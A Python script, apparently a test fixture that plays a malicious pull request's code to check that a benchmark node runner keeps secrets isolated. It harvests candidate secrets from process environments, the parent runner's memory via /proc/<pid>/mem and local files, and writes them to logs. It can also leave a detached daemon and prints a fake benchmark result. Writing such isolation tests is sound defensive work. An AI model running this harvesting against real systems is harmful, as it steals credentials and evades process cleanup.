"""A benchmark that hunts for secrets, as an approved pull request's code could: it prints and
writes everything it can read that might hold one. It is told no secret value (that would
put them in its own environment): the test that runs it looks for each value in what it
printed, in what the node uploaded and in what it wrote.

It reads its own environment, every /proc/<pid>/environ and cmdline, its parent's (the node
runner's) environ, maps and mem, /proc/<pid>/root of each process, and every file under its
checkout, home, temporary folder, DISTKPI_LOG_DIR and the folders given as arguments. What
it found goes to stdout (the node's log) and to DISTKPI_LOG_DIR/found.txt (uploaded);
`reached` lines say which places it could open, so a test can see the hunt was real. With
--daemon it first leaves a process behind that has escaped its process group and session
(setsid after a double fork), its pid in DISTKPI_LOG_DIR/daemon.pid."""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

WORDS = re.compile(rb"[\x21-\x7e]{12,}")  # printable runs long enough to be a secret
MAX_FILE_BYTES = 1 << 20
MAX_MEM_BYTES = 64 << 20


def words(data: bytes) -> set[str]:
    return {w.decode() for w in WORDS.findall(data)}


def read(path: Path | str, limit: int = MAX_FILE_BYTES) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def processes() -> list[str]:
    return [p for p in os.listdir("/proc") if p.isdigit()]


def hunt_proc(found: set[str], reached: list[str]) -> None:
    for pid in processes():
        for part in ("environ", "cmdline"):
            data = read(f"/proc/{pid}/{part}")
            if data:
                found.update(words(data.replace(b"\0", b"\n")))
                for value in data.split(b"\0"):  # NAME=value: the value alone too
                    found.update(words(value.partition(b"=")[2]))
                reached.append(f"/proc/{pid}/{part}")


def runner_pid() -> int:
    """The node runner: the nearest ancestor running `distkpi_cli.main`, as /proc shows it
    (in a pid namespace of its own, the code's getppid() names no process outside)."""
    pid = int(os.readlink("/proc/self"))
    while pid > 1:
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            if b"distkpi_cli.main" in Path(f"/proc/{pid}/cmdline").read_bytes():
                return pid
        except (OSError, ValueError, IndexError):
            break
    return os.getppid()


def hunt_parent_memory(found: set[str], reached: list[str]) -> None:
    parent = runner_pid()
    maps = read(f"/proc/{parent}/maps")
    if maps is None:
        return
    reached.append(f"/proc/{parent}/maps")
    taken = 0
    try:
        mem = open(f"/proc/{parent}/mem", "rb")  # noqa: SIM115
    except OSError:
        return
    reached.append(f"/proc/{parent}/mem")
    with mem:
        for line in maps.decode().splitlines():
            span, perms = line.split()[:2]
            if not perms.startswith("r") or taken > MAX_MEM_BYTES:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                data = mem.read(min(end - start, MAX_MEM_BYTES - taken))
            except (OSError, OverflowError, ValueError):
                continue
            taken += len(data)
            found.update(words(data))


def hunt_files(found: set[str], reached: list[str], roots: list[str]) -> None:
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                data = read(Path(folder, name))
                if data is not None:
                    found.update(words(data))
                    reached.append(str(Path(folder, name)))


def leave_a_daemon(log_dir: str) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            Path(log_dir, "daemon.pid").write_text(os.readlink("/proc/self"))  # /proc's pid
            os.execvp("sleep", ["sleep", "600"])
        os._exit(0)
    os.wait()
    while not Path(log_dir, "daemon.pid").exists():
        pass


def main(args: list[str]) -> int:
    log_dir = os.environ.get("DISTKPI_LOG_DIR", ".")
    if "--daemon" in args:
        leave_a_daemon(log_dir)
    print(f"parent {runner_pid()}")
    print(f"uid {os.getuid()}")
    found: set[str] = set()
    reached: list[str] = []
    for name, value in os.environ.items():
        found.update({name, value})
    hunt_proc(found, reached)
    hunt_parent_memory(found, reached)
    roots = [os.getcwd(), log_dir, os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")]
    roots += [a for a in args if not a.startswith("--")]
    hunt_files(found, reached, [r for r in roots if r])
    out = Path(log_dir, "found.txt")
    out.write_text("\n".join(sorted(found)) + "\n")
    for place in reached:
        print(f"reached {place}")
    for word in sorted(found):
        print(f"found {word}")
    print("Pass = 0, Training performance = 10 imgs/s, Test accuracy = 0.5")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
